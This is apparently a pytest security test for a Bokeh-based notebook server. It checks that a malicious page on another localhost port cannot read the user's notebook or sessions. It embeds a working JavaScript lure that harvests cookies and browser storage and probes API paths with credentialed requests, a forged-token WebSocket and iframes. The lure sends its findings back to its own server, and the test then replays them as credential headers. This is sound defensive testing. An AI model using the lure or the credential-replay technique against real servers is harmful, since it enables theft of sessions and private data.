"""A user of Tilewright visits the server of another user on another port of this machine: the headers sent there open nothing."""

from __future__ import annotations

import base64
import http.client
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from bokeh.util.token import generate_jwt_token, generate_session_id
from playwright.sync_api import Browser
from support.profile import IS_DEEP
from support.sessions.notebooks import MATMUL_NOTEBOOK
from support.sessions.served import Served, served

SECRET = "The tile sizes of the next accelerator"
TEXT = MATMUL_NOTEBOOK.replace("# # A matmul", f"# # {SECRET}")

LURE = """<!doctype html><title>lure</title><body><script>
const target = "TARGET";
const found = { cookie: document.cookie, local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) };
const paths = ["/", "/file/mine.py", "/api/notebooks", "/api/sessions", "/login", "/healthz", "/ws"];
const said = (name, value) => (found[name] = String(value));
async function attack() {
  for (const path of paths)
    for (const mode of ["cors", "no-cors", "same-origin"])
      await fetch(target + path, { mode, credentials: "include" })
        .then(async (answer) => said(`${mode} ${path}`, `${answer.type} ${await answer.text()}`))
        .catch((error) => said(`${mode} ${path}`, error));
  await fetch(`${target}/api/sessions`, {
    method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body: '{"name": "mine.py"}',
  }).then((answer) => said("post", answer.type)).catch((error) => said("post", error));
  await new Promise((done) => {
    const socket = new WebSocket(`${target.replace("http", "ws")}/ws`, ["bokeh", "FORGED"]);
    socket.onopen = () => (said("socket", "OPEN"), done());
    socket.onerror = () => (said("socket", "refused"), done());
  });
  for (const path of ["/", "/file/mine.py"]) {
    const frame = document.createElement("iframe");
    frame.src = target + path;
    document.body.append(frame);
    await new Promise((done) => (frame.onload = done));
    try { said(`frame ${path}`, frame.contentDocument?.body.textContent ?? "closed"); } catch (error) { said(`frame ${path}`, error); }
    try { said(`kept ${path}`, JSON.stringify({ ...frame.contentWindow.localStorage })); } catch (error) { said(`kept ${path}`, error); }
  }
  await fetch("/found", { method: "POST", body: JSON.stringify(found) });
  document.title = "done";
}
attack();
</script>"""


class Lure:
    """The server of another user. It stores the headers and the body of each request."""

    def __init__(self, target: str, forged: str) -> None:
        self.headers: list[dict[str, str]] = []
        self.found: dict[str, str] = {}
        page = LURE.replace("TARGET", target).replace("FORGED", forged).encode()
        lure = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                lure.headers.append(dict(self.headers.items()))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                lure.headers.append(dict(self.headers.items()))
                lure.found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@contextmanager
def lure_for(server: Served) -> Iterator[Lure]:
    lure = Lure(server.url, forged_token())
    thread = threading.Thread(target=lure.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield lure
    finally:
        lure.server.shutdown()
        lure.server.server_close()
        thread.join(5)


def forged_token(secret: bytes = b"a guess") -> str:
    """A Bokeh token that another user can create."""
    return generate_jwt_token(generate_session_id(secret, signed=True), secret, signed=True)


def raw(
    server: Served, method: str, target: str, headers: dict[str, str], body: bytes | None = None
) -> tuple[int, str]:
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        connection.request(method, target, body, headers)
        answer = connection.getresponse()
        return answer.status, "" if answer.status == 101 else answer.read().decode()
    finally:
        connection.close()


def attempts(gained: list[str]) -> Iterator[dict[str, str]]:
    """Headers that a program may send, with each captured value wherever a credential could be."""
    yield {}
    for value in gained:
        yield {
            "Cookie": f"{value}; tilewright-5006={value}; tilewright-web={value}; _xsrf={value}",
            "Authorization": f"Bearer {value}",
            "Bokeh-Session-Id": value,
            "Sec-WebSocket-Protocol": f"bokeh, {value}",
        }


def assert_closed(server: Served, headers: dict[str, str]) -> None:
    """No page, no address of the API, and no session answers to these headers."""
    own = {"Host": f"127.0.0.1:{server.port}", "Origin": server.url, "Sec-Fetch-Site": "same-origin"}
    everything = {**own, **headers}
    for target in (
        "/",
        "/file/mine.py",
        "/file/mine.py?ticket=x",
        f"/?ticket={server.policy.keys._run}",
        "/?bokeh-session-id=x",
    ):
        status, text = raw(server, "GET", target, everything)
        assert status in (200, 401) and SECRET not in text and not re.search(r'"token": ?"', text), (target, headers)
    for target in ("/api", "/api/notebooks", "/api/sessions", "/autoload.js", "/metadata"):
        assert raw(server, "GET", target, everything)[0] in (401, 403), (target, headers)
    opening = json.dumps({"name": "mine.py"}).encode()
    as_json = {**everything, "Content-Type": "application/json"}
    assert raw(server, "POST", "/api/sessions", as_json, opening)[0] == 401
    for token in (forged_token(), generate_jwt_token(generate_session_id(signed=False), signed=False)):
        protocol = {"Sec-WebSocket-Protocol": f"bokeh, {token}"}
        for request in ({**everything, **HANDSHAKE}, {**everything, **HANDSHAKE, **protocol}):
            assert raw(server, "GET", "/ws", request)[0] == 401, headers


HANDSHAKE = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": base64.b64encode(b"0" * 16).decode(),
}


@pytest.mark.slow
def test_a_server_on_another_port_gains_no_access(browser: Browser, tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "mine.py").write_text(TEXT)
    page = browser.new_context().new_page()
    with served(folder) as server:
        page.goto(server.page_url("/file/mine.py"))
        page.get_by_role("treeitem").first.wait_for()
        kept = page.evaluate("({ ...localStorage, ...sessionStorage })")
        held = server.ask("GET", "/file/mine.py").body.decode()
        with lure_for(server) as lure:
            page.goto(f"{lure.url}/")
            page.wait_for_function("document.title === 'done'")
            assert page.context.cookies() == [], "no cookie, which a browser would send to every port"
            assert len(lure.headers) >= 2 and lure.found["socket"] == "refused"
        page.context.close()
        gained = json.dumps([lure.headers, lure.found])
        assert SECRET not in gained and '"token":' not in gained
        assert server.policy.token not in gained and server.policy.keys._run not in gained, (
            "neither the token nor a key"
        )
        values = sorted({value for headers in lure.headers for value in headers.values()} | set(lure.found.values()))
        values = [value for value in values if value.isascii() and value.isprintable()][:60]
        before = len(server.sessions.all)
        for headers in attempts([*values[:: 1 if IS_DEEP else 5], forged_token()]):
            assert_closed(server, headers)
        for value in values:
            for name in ("token", "entry", "key"):
                assert logged_in(server, {name: value})[0] == 401
        assert len(server.sessions.all) <= before
    # After a restart, not even the values stored by the user's own browser open the server.
    (key,) = (json.loads(value) for name, value in kept.items() if name.startswith("tilewright-key"))
    (token,) = re.findall(r'"token": ?"([^"]+)"', held)
    with served(folder) as server:
        status, text = logged_in(server, {"key": key})
        assert status == 401 and json.loads(text)["error"]["code"] == "restarted"
        own = {"Host": f"127.0.0.1:{server.port}", "Origin": server.url}
        shaken = {**own, **HANDSHAKE, "Sec-WebSocket-Protocol": f"bokeh, {token}"}
        assert raw(server, "GET", "/ws", shaken)[0] == 401
        for value in (key, token):
            assert raw(server, "GET", "/api", {**own, "Authorization": f"Bearer {value}"})[0] == 401
            assert SECRET not in raw(server, "GET", f"/file/mine.py?ticket={value}", own)[1]


def logged_in(server: Served, body: dict[str, str]) -> tuple[int, str]:
    headers = {"Host": f"127.0.0.1:{server.port}", "Origin": server.url, "Sec-Fetch-Site": "same-origin"}
    return raw(server, "POST", "/login", {**headers, "Content-Type": "application/json"}, json.dumps(body).encode())
